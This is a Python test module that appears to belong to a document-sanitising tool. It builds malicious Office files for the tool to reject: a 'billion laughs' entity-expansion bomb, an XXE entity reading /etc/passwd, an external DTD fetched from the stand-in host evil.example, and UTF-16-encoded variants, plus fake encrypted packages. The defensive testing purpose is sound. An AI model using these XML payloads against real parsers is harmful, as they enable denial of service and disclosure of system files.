"""Document types in XML, and packages that are encrypted."""

from random import Random

from ita_core.evidence import inspect as refusals
from tests import files
from tests.attacks.attack import MAIN, OFFICE, attack, folder_of

LAUGHS = "<!DOCTYPE a [<!ENTITY a 'lol'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
) + "]>"  # fmt: skip
NEAR_FILE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FAR_FILE = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/a.dtd">%x;]>'


@attack("xml", refusals.DocumentType, *OFFICE)
def a_document_type(content: bytes, random: Random) -> bytes:
    suffix, _folder = folder_of(content)
    part = random.choice([MAIN[suffix], "[Content_Types].xml", "_rels/.rels", "docProps/core.xml"])
    declared = random.choice([LAUGHS, NEAR_FILE, FAR_FILE, "<!DOCTYPE a>"])
    made = files.parts(content)
    whole = made[part].decode()
    head, close, body = whole.partition("?>") if whole.startswith("<?xml") else ("", "", whole)
    comment = f"<!--{'-x' * random.randrange(1000)}-->".replace("<!---", "<!--") if random.random() < 0.3 else ""
    return files.packed({**made, part: f"{head}{close}{comment}{declared}{body}".encode()})


@attack("xml", refusals.DocumentType, *OFFICE)
def a_document_type_in_another_coding(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    whole = f'<?xml version="1.0" encoding="UTF-16"?>{random.choice([LAUGHS, NEAR_FILE])}<a>&x;</a>'
    name = random.choice([f"{folder}/extra.xml", "customXml/item7.xml", f"{folder}/drawing1.vml"])
    return files.added(content, name, whole.encode("utf-16"))


@attack("encrypted", refusals.PasswordProtected, *OFFICE, ".doc", ".xls")
def an_encrypted_package(_content: bytes, random: Random) -> bytes:
    return files.compound({
        "EncryptedPackage": random.randbytes(random.randrange(100, 9000)), "EncryptionInfo": random.randbytes(200),
        "\x06DataSpaces/Version": b"x" * 76,
    })  # fmt: skip
